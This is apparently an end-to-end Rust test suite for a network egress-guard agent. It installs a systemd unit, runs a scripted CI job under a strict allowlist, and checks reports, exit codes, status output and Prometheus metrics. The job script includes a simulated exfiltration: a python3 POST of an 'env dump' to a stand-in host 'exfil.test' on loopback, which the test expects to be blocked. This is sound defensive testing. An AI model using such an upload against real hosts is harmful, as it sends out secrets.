//! Operations, end to end: `install --root` writes the unit and the
//! configuration, the agent is started exactly as the unit's `ExecStart`
//! says (same argv, same installed config file, the installed binary), a
//! scripted CI "job" (curl and python3 in a monitored cgroup against
//! servers on 127.0.0.2 and 127.0.0.3, one of them blocked by a strict
//! allowlist) runs, and `report`, `--fail-on-block`, `status` and the
//! Prometheus endpoint are checked against what happened. Named scopes:
//! `--unit` finds a unit-shaped cgroup the test made (its children are
//! covered), and an unknown unit stops the start with a clear error. The
//! generated unit passes `systemd-analyze verify`.
//!
//! Attaches only to cgroups below `<cgroup2>/guard-test/`; traffic only to
//! 127.0.0.0/8.

use std::{
    net::SocketAddr,
    path::{Path, PathBuf},
    process::{Child, Command, Output, Stdio},
    time::{Duration, Instant},
};

use guard_harness::{
    agent_bin, command_in, events_in, external_v4, free_port, require_root, run_ok,
    servers::HttpServer, Agent, AgentOptions, TestCgroup,
};
use serde_json::Value;

/// A strict allowlist for the job: only `registry.test` may be reached.
const JOB_POLICY: &str = r#"Policy(
    name: "ci-job",
    mode: Enforce,
    default: Block(reason: "destination not on the CI allowlist"),
    rules: [
        Rule(name: "package-registry", when: (host: ["registry.test"]), action: Allow),
    ],
)"#;

/// An agent started from the installed unit's ExecStart; SIGTERM on drop.
struct UnitAgent {
    child: Option<Child>,
    log: PathBuf,
    state_dir: PathBuf,
}

impl UnitAgent {
    fn cli(&self, args: &[&str]) -> Output {
        Command::new(agent_bin())
            .args(args)
            .arg("--state-dir")
            .arg(&self.state_dir)
            .output()
            .unwrap()
    }

    fn log_text(&self) -> String {
        std::fs::read_to_string(&self.log).unwrap_or_default()
    }

    fn stop(&mut self) {
        if let Some(mut c) = self.child.take() {
            // SAFETY: signalling our own child.
            unsafe { libc::kill(c.id() as i32, libc::SIGTERM) };
            let st = c.wait().unwrap();
            assert!(st.success(), "agent exit {st}:\n{}", self.log_text());
        }
    }
}

impl Drop for UnitAgent {
    fn drop(&mut self) {
        if let Some(mut c) = self.child.take() {
            // SAFETY: signalling our own child.
            unsafe { libc::kill(c.id() as i32, libc::SIGTERM) };
            let _ = c.wait();
        }
    }
}

/// The `ExecStart=` argv of a unit file.
fn exec_start(unit: &str) -> Vec<String> {
    let line = unit
        .lines()
        .find_map(|l| l.strip_prefix("ExecStart="))
        .expect("ExecStart in the unit");
    line.split_whitespace().map(str::to_owned).collect()
}

/// Starts the agent as the unit in `root` would, with paths below `root`.
fn start_as_unit(root: &Path, state_dir: &Path) -> UnitAgent {
    let unit = std::fs::read_to_string(root.join("etc/systemd/system/guard-agent.service"))
        .expect("installed unit");
    let argv: Vec<String> = exec_start(&unit)
        .into_iter()
        .map(|a| {
            if a.starts_with('/') {
                root.join(a.trim_start_matches('/'))
                    .to_string_lossy()
                    .into_owned()
            } else {
                a
            }
        })
        .collect();
    assert_eq!(argv[1..3], ["run", "--config"], "{argv:?}");
    let log = state_dir.with_extension("agent.log");
    let child = Command::new(&argv[0])
        .args(&argv[1..])
        .stdout(Stdio::null())
        .stderr(std::fs::File::create(&log).unwrap())
        .spawn()
        .expect("spawn the installed binary");
    let mut agent = UnitAgent {
        child: Some(child),
        log,
        state_dir: state_dir.to_path_buf(),
    };
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        if let Some(st) = agent.child.as_mut().unwrap().try_wait().unwrap() {
            panic!("agent exited early ({st}):\n{}", agent.log_text());
        }
        if agent.cli(&["status", "--json"]).status.success() {
            return agent;
        }
        assert!(
            Instant::now() < deadline,
            "agent not ready:\n{}",
            agent.log_text()
        );
        std::thread::sleep(Duration::from_millis(50));
    }
}

fn wait_events(state_dir: &Path, n: usize) -> Vec<Value> {
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let ev = events_in(state_dir, &[]);
        if ev.len() >= n {
            return ev;
        }
        assert!(
            Instant::now() < deadline,
            "expected {n} events, have {}: {ev:#?}",
            ev.len()
        );
        std::thread::sleep(Duration::from_millis(50));
    }
}

fn utc_now_rfc3339() -> String {
    let out = run_ok(Command::new("date").args(["-u", "+%Y-%m-%dT%H:%M:%SZ"]));
    String::from_utf8(out.stdout).unwrap().trim().to_owned()
}

fn text(o: &Output) -> String {
    format!(
        "exit {}\nstdout:\n{}\nstderr:\n{}",
        o.status,
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

/// The value of an unlabelled or labelled sample in exposition text.
fn sample(metrics: &str, name: &str) -> Option<f64> {
    metrics
        .lines()
        .find_map(|l| l.strip_prefix(name)?.strip_prefix(' ')?.parse().ok())
}

#[test]
fn installed_unit_runs_a_ci_job_and_reports_it() {
    require_root();
    let registry = HttpServer::start(external_v4(0), "{\"ok\":true}");
    let exfil = HttpServer::start(SocketAddr::from(([127, 0, 0, 3], 0)), "{}");
    let cg = TestCgroup::new("ops-job");
    let tmp = tempfile::Builder::new()
        .prefix("guard-ops-")
        .tempdir()
        .unwrap();
    let root = tmp.path().join("root");
    let state = tmp.path().join("state");
    let policies = tmp.path().join("policies");
    std::fs::create_dir_all(&policies).unwrap();
    std::fs::write(policies.join("ci-job.ron"), JOB_POLICY).unwrap();
    let (port, metrics_port) = (free_port(), free_port());
    let config = tmp.path().join("agent.ron");
    std::fs::write(
        &config,
        format!(
            r#"(
    state_dir: "{}",
    listen: ["127.0.0.1:{port}"],
    cgroups: ["{}"],
    exec_cgroup: "{}",
    intercept: ["127.0.0.2/32", "127.0.0.3/32"],
    policy_dir: "{}",
    metrics: "127.0.0.1:{metrics_port}",
    // Tests never reach a real resolver: a loopback port nothing serves.
    dns: (upstream: ["127.0.0.1:9"]),
)"#,
            state.display(),
            cg.path.display(),
            cg.path.join("exec").display(),
            policies.display()
        ),
    )
    .unwrap();

    // install --root: files only; the host steps are skipped and say so.
    let out = run_ok(
        Command::new(agent_bin())
            .args(["install", "--root"])
            .arg(&root)
            .arg("--config")
            .arg(&config),
    );
    let said = String::from_utf8_lossy(&out.stdout);
    assert!(said.contains("skipped: --root"), "{said}");
    assert!(
        said.contains("group") && said.contains("trust store"),
        "{said}"
    );
    assert_eq!(
        std::fs::read_to_string(root.join("etc/guard/agent.ron")).unwrap(),
        std::fs::read_to_string(&config).unwrap()
    );
    assert!(root.join("etc/guard/policies/default.ron").is_file());

    let mut agent = start_as_unit(&root, &state);

    // The job: two allowed requests with curl, one exfiltration attempt with
    // python3 that the allowlist blocks.
    let job_start = utc_now_rfc3339();
    std::thread::sleep(Duration::from_millis(1100)); // the start has 1 s resolution
    let script = format!(
        r#"set -e
curl -sS -f -H 'Host: registry.test' http://{reg}/simple/left-pad/
curl -sS -f -H 'Host: registry.test' http://{reg}/simple/right-pad/
python3 - <<'EOF'
import urllib.request, urllib.error
req = urllib.request.Request("http://{ex}/upload", data=b"env dump", headers={{"Host": "exfil.test"}})
try:
    urllib.request.urlopen(req, timeout=20)
    raise SystemExit("the upload was not blocked")
except urllib.error.HTTPError as e:
    assert e.code == 403, e.code
    print("blocked", e.code)
EOF
"#,
        reg = registry.addr,
        ex = exfil.addr
    );
    let job = run_ok(cg.command("sh").args(["-c", &script]));
    assert!(String::from_utf8_lossy(&job.stdout).contains("blocked 403"));
    assert_eq!(registry.requests().len(), 2);
    assert!(exfil.requests().is_empty(), "the blocked upload left");
    // Three connections and three requests.
    wait_events(&state, 6);
    std::thread::sleep(Duration::from_millis(1100));
    let job_end = utc_now_rfc3339();

    // The Markdown summary.
    let md = agent.cli(&["report", "--since", &job_start]);
    assert!(md.status.success(), "{}", text(&md));
    let md = String::from_utf8(md.stdout).unwrap();
    assert!(
        md.contains("**3 connections**, **3 HTTP requests**, **1 blocked**"),
        "{md}"
    );
    assert!(
        md.contains(&format!(
            "| registry.test | {} | 2 | 2 | 0 | 0 |",
            registry.addr
        )),
        "{md}"
    );
    assert!(
        md.contains(&format!(
            "| exfil.test ({}) | POST exfil.test/upload | default | destination not on the CI allowlist |",
            exfil.addr
        )) || md.contains(&format!(
            "| exfil.test ({}) | POST exfil.test:{}/upload | default | destination not on the CI allowlist |",
            exfil.addr,
            exfil.addr.port()
        )),
        "{md}"
    );
    assert!(md.contains("/curl`") && md.contains("python3"), "{md}");

    // --fail-on-block fails the job; JSON says the same; a later window is clean.
    let fail = agent.cli(&["report", "--since", &job_start, "--fail-on-block"]);
    assert_eq!(fail.status.code(), Some(3), "{}", text(&fail));
    assert!(String::from_utf8_lossy(&fail.stderr)
        .contains("1 connection(s) or request(s) were blocked"));
    let json = agent.cli(&["report", "--since", &job_start, "--format", "json"]);
    let j: Value =
        serde_json::from_slice(&json.stdout).unwrap_or_else(|e| panic!("{e}: {}", text(&json)));
    assert_eq!(
        (
            j["connections"].as_u64(),
            j["requests"].as_u64(),
            j["blocked"].as_u64()
        ),
        (Some(3), Some(3), Some(1)),
        "{j:#}"
    );
    let later = agent.cli(&["report", "--since", &job_end, "--fail-on-block"]);
    assert_eq!(later.status.code(), Some(0), "{}", text(&later));
    assert!(
        String::from_utf8_lossy(&later.stdout).contains("No outbound connections were recorded")
    );

    // Status: policy version and digest, retention, metrics.
    let st: Value = serde_json::from_slice(&agent.cli(&["status", "--json"]).stdout).unwrap();
    assert_eq!(st["policy"]["version"], 1, "{st:#}");
    assert_eq!(
        st["policy"]["sha256"].as_str().map(str::len),
        Some(64),
        "{st:#}"
    );
    assert_eq!(st["policy"]["source"], policies.display().to_string());
    assert_eq!(st["retention_max_bytes"], 1u64 << 30);
    assert_eq!(st["retention_max_age_secs"], 30 * 24 * 3600);
    assert_eq!(st["metrics"], format!("127.0.0.1:{metrics_port}"));
    let (now, peak) = (st["memory_kib"].as_u64(), st["memory_peak_kib"].as_u64());
    assert!(
        matches!((now, peak), (Some(n), Some(p)) if n > 0 && p >= n),
        "{st:#}"
    );

    // Prometheus, scraped with curl (from outside the monitored cgroup).
    let scrape = run_ok(Command::new("curl").args([
        "-sS",
        "-f",
        &format!("http://127.0.0.1:{metrics_port}/metrics"),
    ]));
    let m = String::from_utf8(scrape.stdout).unwrap();
    assert!(
        sample(&m, "guard_connections_accepted_total").unwrap_or(0.0) >= 3.0,
        "{m}"
    );
    assert!(
        sample(&m, "process_resident_memory_bytes").unwrap_or(0.0) > 1e6,
        "{m}"
    );
    // Nothing lost by the store.
    assert_eq!(sample(&m, "guard_events_lost_total"), Some(0.0), "{m}");
    // Descriptors: some open, and the limit the agent raised itself to.
    assert!(sample(&m, "process_open_fds").unwrap_or(0.0) > 0.0, "{m}");
    assert_eq!(
        sample(&m, "process_max_fds"),
        st["fds_limit"].as_u64().map(|l| l as f64),
        "{m}"
    );
    assert_eq!(
        sample(&m, "guard_http_requests_total{verdict=\"block\"}"),
        Some(1.0),
        "{m}"
    );
    assert_eq!(
        sample(&m, "guard_http_requests_total{verdict=\"allow\"}"),
        Some(2.0),
        "{m}"
    );
    assert_eq!(
        sample(&m, "guard_http_request_duration_seconds_count"),
        Some(3.0),
        "{m}"
    );
    assert_eq!(sample(&m, "guard_holds_pending"), Some(0.0), "{m}");
    assert!(
        m.lines()
            .any(|l| l
                .starts_with("guard_policy_decisions_total{rule=\"default\",action=\"block\"} 1")),
        "{m}"
    );

    // After the agent stops, report reads the store itself.
    agent.stop();
    let after = agent.cli(&["report", "--since", &job_start, "--fail-on-block"]);
    assert_eq!(after.status.code(), Some(3), "{}", text(&after));

    // uninstall --root removes what install wrote and keeps the store.
    let out = run_ok(
        Command::new(agent_bin())
            .args(["uninstall", "--root"])
            .arg(&root),
    );
    let said = String::from_utf8_lossy(&out.stdout);
    assert!(
        !root.join("etc/systemd/system/guard-agent.service").exists(),
        "{said}"
    );
    assert!(
        !root.join("etc/guard/agent.ron").exists(),
        "the unchanged config stays: {said}"
    );
    assert!(!root.join("usr/local/sbin/guard-agent").exists(), "{said}");
    assert!(state.join("events.sled").exists());
}

#[test]
fn unit_scope_covers_the_unit_and_its_children_only() {
    require_root();
    let server = HttpServer::start(external_v4(0), "{}");
    let parent = TestCgroup::new("ops-unit");
    let unit = format!("guard-test-runner-{}.service", std::process::id());
    let unit_cg = parent.child(&unit);
    let job_cg = unit_cg.join("job-1.scope");
    std::fs::create_dir_all(&job_cg).unwrap();
    let outside = parent.child("outside");
    let agent = Agent::start(AgentOptions {
        exec_cgroup: Some(parent.path.join("exec")),
        intercept: vec!["127.0.0.2/32".into()],
        extra_args: vec!["--unit".into(), unit.clone()],
        ..Default::default()
    });
    let st = agent.status();
    let attached: Vec<String> = st["cgroups"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c.as_str().unwrap().to_owned())
        .collect();
    assert!(attached.contains(&unit_cg.display().to_string()), "{st:#}");

    let url = format!("http://{}/job", server.addr);
    run_ok(command_in(&job_cg, "curl").args(["-sS", "-f", &url]));
    run_ok(command_in(&outside, "curl").args([
        "-sS",
        "-f",
        &format!("http://{}/outside", server.addr),
    ]));
    let events = agent.wait_events(&["--kind", "connection"], 1);
    assert_eq!(server.requests().len(), 2);
    std::thread::sleep(Duration::from_millis(300));
    let events_now = agent.events(&["--kind", "connection"]);
    assert_eq!(
        events_now.len(),
        1,
        "only the job inside the unit is covered: {events_now:#?}"
    );
    let cgroup = events[0]["cgroup"].as_str().unwrap();
    assert!(cgroup.ends_with(&format!("{unit}/job-1.scope")), "{cgroup}");
    assert_eq!(events[0]["unit"], "job-1.scope");
}

#[test]
fn an_unknown_unit_stops_the_start_with_a_clear_error() {
    require_root();
    let parent = TestCgroup::new("ops-nounit");
    let state = tempfile::tempdir().unwrap();
    let out = Command::new(agent_bin())
        .args([
            "run",
            "--unit",
            "guard-no-such-unit-e2e.service",
            "--state-dir",
        ])
        .arg(state.path())
        .arg("--listen")
        .arg(format!("127.0.0.1:{}", free_port()))
        .arg("--exec-cgroup")
        .arg(parent.path.join("exec"))
        .output()
        .unwrap();
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("`guard-no-such-unit-e2e.service` has no cgroup")
            && err.contains("is it running"),
        "{err}"
    );
    assert!(!parent.path.join("exec").exists(), "nothing was set up");
}

#[test]
fn the_unit_passes_systemd_analyze_verify() {
    let analyze = Path::new("/usr/bin/systemd-analyze");
    assert!(
        analyze.exists(),
        "systemd-analyze is needed to check the unit (apt-get install systemd)"
    );
    let dir = tempfile::tempdir().unwrap();
    let unit = dir.path().join("guard-agent.service");
    let unit_text = run_ok(
        Command::new(agent_bin())
            .args(["install", "--print-unit", "--binary"])
            .arg(agent_bin()),
    )
    .stdout;
    std::fs::write(&unit, &unit_text).unwrap();
    let out = Command::new(analyze)
        .arg("verify")
        .arg(&unit)
        .output()
        .unwrap();
    assert!(
        out.status.success() && out.stderr.is_empty(),
        "{}",
        text(&out)
    );
}
